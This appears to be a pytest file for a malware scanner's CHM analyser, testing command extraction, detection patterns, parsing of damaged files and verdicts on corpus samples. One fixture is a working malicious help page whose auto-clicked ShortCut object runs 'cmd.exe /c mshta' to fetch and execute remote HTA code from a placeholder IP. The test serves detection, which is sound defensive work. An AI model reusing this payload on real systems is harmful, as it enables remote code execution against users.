"""CHM analyser: page heuristics and #SYSTEM parsing on in-memory inputs, damaged files, the corpora."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest

from aptcatch.capture.engine import Scanner
from aptcatch.capture.formats.chm import _ITS, _SHELL, _system_topic, shortcut_commands

SHORTCUT_PAGE = """<html><body>
<OBJECT id=x classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>
<PARAM name="Command" value="ShortCut">
 <PARAM name="Button" value="Bitmap::shortcut">
 <PARAM name="Item1" value=',cmd.exe,/c mshta http://198.51.100.4/a.hta'>
 <PARAM name="Item2" value="273,1,1">
</OBJECT>
<SCRIPT>x.Click();</SCRIPT></body></html>"""

GLOBALSIGN = [
    "2020-07-GlobalSign/190e7f3e9c463cd133090f97c4884226b8a5d3d6ecb62123f8fef423af47914d.zip",
    "2020-07-GlobalSign/a11d57b8f6406a0912fefa20bb2f5f3067aa43a20e47404343fb082c57819d6a.zip",
]


@pytest.fixture(scope="module")
def scan() -> Scanner:
    return Scanner()


def test_shortcut_command_is_extracted() -> None:
    assert shortcut_commands(SHORTCUT_PAGE) == [",cmd.exe,/c mshta http://198.51.100.4/a.hta"]


def test_other_activex_objects_are_ignored() -> None:
    page = SHORTCUT_PAGE.replace("ShortCut", "WinHelp")
    assert shortcut_commands(page) == []
    page = SHORTCUT_PAGE.replace("adb880a6", "00000000")
    assert shortcut_commands(page) == []


def test_its_and_shell_patterns() -> None:
    assert _ITS.search('<a href="mk:@MSITStore:C:\\x\\help.chm::/page.htm">')
    assert _ITS.search("ms-its:C:\\temp\\a.chm::/b.htm")
    assert not _ITS.search("and its: the rest")
    assert _SHELL.search('var s = new ActiveXObject("WScript.Shell"); s.Run(c);')


def test_system_default_topic() -> None:
    blob = (
        struct.pack("<I", 3)
        + struct.pack("<HH", 9, 5)
        + b"HHA4\x00"
        + struct.pack("<HH", 2, 11)
        + b"System.lnk\x00"
    )
    assert _system_topic(blob) == "System.lnk"
    assert _system_topic(b"\x03\x00\x00\x00\xff") == ""


def test_damaged_chm_is_a_clear_error(scan: Scanner) -> None:
    r = scan.scan_bytes(b"ITSF\x03\x00\x00\x00" + b"\x00" * 200, name="help.chm")
    assert r.type == "chm"
    assert any(e.analyzer == "chm" and e.kind == "parse" for e in r.artifact.errors)
    assert "chm.compiled_html" in {f.id for f in r.findings}
    assert r.verdict != "malicious"


@pytest.mark.corpus
@pytest.mark.parametrize("rel", GLOBALSIGN)
def test_globalsign_chm_is_malicious(shared_data: Path, scan: Scanner, rel: str) -> None:
    import pyzipper

    with pyzipper.AESZipFile(shared_data / "maldocs-dev" / rel) as zf:
        name = zf.namelist()[0]
        data = zf.read(name, pwd=b"infected")
    r = scan.scan_bytes(data, name=name)
    assert r.type == "chm"
    assert r.verdict == "malicious", r.findings
    found = {f.id for f in r.findings}
    assert {"chm.compiled_html", "chm.executable_entry", "chm.default_topic_executable"} <= found
    topic = r.artifact.metadata["chm_default_topic"]
    assert any(c.name == topic and c.type in ("lnk", "vbs") for c in r.artifact.children)
    assert not r.artifact.errors
